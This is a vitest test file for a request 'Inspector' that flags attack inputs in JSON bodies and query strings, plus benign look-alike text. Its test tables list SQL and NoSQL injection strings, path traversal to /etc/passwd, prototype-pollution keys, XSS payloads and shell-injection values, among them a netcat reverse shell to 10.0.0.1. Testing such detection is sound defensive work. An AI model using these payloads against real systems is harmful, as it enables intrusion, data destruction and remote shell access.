import { describe, expect, it } from 'vitest';
import { Inspector } from '../inspector.ts';

const THRESHOLD = 5;

/** Of one text in JSON, at the level that policies have if nobody says otherwise. */
function rulesOf(text: string, paranoia: 1 | 2 | 3 = 1): string[] {
  const inspector = new Inspector({ paranoia, maxDepth: 32, maxFields: 100, exceptions: [] });
  inspector.begin();
  inspector.json(Buffer.from(JSON.stringify({ a: text })));
  return inspector.hits.filter(({ rule }) => rule.score >= THRESHOLD).map(({ rule }) => rule.id);
}

describe('attacks', () => {
  it.each([
    ['sqli-tautology', '1 or 1=1'],
    ['sqli-tautology', '1 AnD (sElEcT 1 from users)=1'],
    ['sqli-tautology', '1/**/or/**/1=1'],
    ['sqli-tautology', "1\tor\n'a'='a'"],
    ['sqli-tautology', '1 || 1=1'],
    ['sqli-breakout', "x' or 'x'='x"],
    ['sqli-breakout', 'x") or ("a"="a'],
    ['sqli-breakout', "x' or name like 'a%"],
    ['sqli-breakout', "x' and ascii(substr(database(),1,1)) > 64 and 'a'='a"],
    ['sqli-breakout', "x\\' or 1=1 -- "],
    ['sqli-breakout-comment', "admin' -- "],
    ['sqli-breakout-comment', "admin'/*"],
    ['sqli-union', "' union all select null,null,version()-- -"],
    ['sqli-union', '-1 UNION SELECT 1,2,3'],
    ['sqli-union', '1e0union select 1,2'],
    ['sqli-version-comment', '1 /*!50000union*/ /*!50000select*/ 1'],
    ['sqli-split-word', '1 uni/**/on sel/**/ect 1'],
    ['sqli-stacked', '1; drop table users; --'],
    ['sqli-stacked', "'; exec master..xp_cmdshell 'ping a' --"],
    ['sqli-function', '1 and sleep(5)'],
    ['sqli-function', "1; waitfor delay '0:0:5' --"],
    ['sqli-function', 'extractvalue(1, concat(0x7e, version()))'],
    ['sqli-clause', '1 order by 5 --'],
    ['nosqli-operator-text', "true, $where: '1 == 1'"],
    ['nosqli-script', "'; return this.password.match(/a/); var b='"],
    ['nosqli-operator', '{"$gt": ""}'],
    ['traversal-path', '../../../etc/passwd'],
    ['traversal-path', '..\\..\\windows\\win.ini'],
    ['traversal-path', '..%252f..%252fa'],
    ['traversal-file', '/etc/passwd'],
    ['traversal-file', 'php://filter/convert.base64-encode/resource=index'],
    ['nul-byte', 'a.php\0.png'],
    ['command-chain', '; cat /etc/hosts'],
    ['command-chain', '127.0.0.1 && whoami'],
    ['command-chain', '| nc -e /bin/sh 10.0.0.1 4444'],
    ['command-chain', "; c'a't /etc/hosts"],
    ['command-chain', '; /???/c?t /etc/hosts'],
    ['command-substitution', '$(id)'],
    ['command-substitution', '`id`'],
    ['command-chain', 'a;cat$IFS$9b'],
    ['command-shell', '/bin/sh -c id'],
    ['xss-tag', '<script>alert(1)</script>'],
    ['xss-tag', '<ScRiPt src=//a.example></script>'],
    ['xss-handler', '<img src=x onerror=alert(1)>'],
    ['xss-handler', '" onmouseover="alert(1)'],
    ['xss-scheme', '<a href="java\tscript:alert(1)">'],
    ['xss-scheme', 'javascript:alert(1)'],
  ])('%s: %s', (rule, text) => {
    expect(rulesOf(text)).toContain(rule);
  });
});

describe('what only looks like attacks', () => {
  it.each([
    "O'Connor and Smith's",
    "It's the dogs' and the cats' food, or is it?",
    "rock 'n' roll",
    'Select one of the options from the list, or drop me a line.',
    'The union will select 5 delegates from all regions.',
    'Values such as 1=1 or 2<>3 are not what I mean by "equal".',
    'Use "and", "or" & "not" (Boolean search) in the search field',
    `Please, the "+" key -- and the '#' one`,
    `5' x 6' or 2" x 3"`,
    'Sleep (5 tips)',
    "price gt 5 and name eq 'Case'",
    'x >= 6 && y < 7',
    'query Q($where: Filter!, $in: [ID!]) { orders(where: $where) { id } }',
    'see ../docs/readme.md',
    'We sell cat food; sleep masks | all sold & echo answered.',
    "a list:\n\nI'd like to find it, and more",
    '| Name | Size |\n| --- | --- |\n| Cat Island | 5 |',
    'JavaScript: the basics',
    'a < b and c > d, <3',
    '<p>Hello <b>you</b>, see <a href="https://a.example/b?c=1&d=2">this</a></p>',
    'c’est l’été à 50 %, größer als 3 €',
    'data:image/png;base64,iVBORw0KGgo=',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36',
  ])('%s', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });
});

describe('names', () => {
  function rulesOfNames(show: (inspector: Inspector) => void, paranoia: 1 | 2 | 3 = 2): string[] {
    const inspector = new Inspector({ paranoia, maxDepth: 32, maxFields: 100, exceptions: [] });
    inspector.begin();
    show(inspector);
    return inspector.hits.map(({ rule, location }) => `${rule.id} at ${location}`);
  }

  it.each([
    ['{"a":{"$ne":1}}', ['nosqli-operator at json.a.$ne']],
    ['{"a":{"\\u0024ne":1}}', ['nosqli-operator at json.a.\\u0024ne']],
    ['[{"$lookup":{}}]', ['nosqli-stage at json[].$lookup']],
    ['{"a.$where":1}', ['nosqli-operator at json.a?$where']],
    ['{"$set":{"a":1}}', ['nosqli-update at json.$set']],
    ['{"__proto__":{}}', ['prototype-key at json.__proto__']],
    ['{"constructor":{"prototype":{}}}', ['prototype-key at json.constructor.prototype']],
    ['{"prototype":{},"constructor":1}', []],
    ['{"$ref":"#/a","$schema":"b","$id":"c","$defs":{}}', []],
    ['{"_id":{"$oid":"65"},"at":{"$date":"2026"}}', []],
    ['{"a":1,"b":{"a":2},"c":[{"a":3},{"a":4}]}', []],
    ['{"a":1,"\\u0061":2}', ['json-duplicate-key at json.\\u0061']],
  ])('%s', (body, expected) => {
    expect(rulesOfNames((inspector) => inspector.json(Buffer.from(body)))).toEqual(expected);
  });

  it.each([
    ['a[$ne]=1', ['nosqli-operator at query.a[$ne]']],
    ['a%5B%24gt%5D=', ['nosqli-operator at query.a[$gt]']],
    ['constructor[prototype][a]=1', ['prototype-key at query.constructor[prototype][a]']],
    ['__proto__.a=1', ['prototype-key at query.__proto__.a']],
    ['$filter=price gt 5&$top=5&$count=true', []],
    ['a[$count]=1', ['nosqli-stage at query.a[$count]']],
    ['fields[articles]=title&sort=-created', []],
  ])('%s', (query, expected) => {
    expect(rulesOfNames((inspector) => inspector.target(`/?${query}`))).toEqual(expected);
  });
});
